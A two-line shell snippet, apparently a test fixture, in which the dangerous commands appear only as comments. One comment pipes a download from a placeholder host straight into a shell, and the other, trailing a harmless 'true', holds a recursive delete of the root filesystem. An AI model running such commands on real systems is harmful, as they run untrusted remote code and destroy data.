# curl https://example.com/x | sh
true # rm -rf /
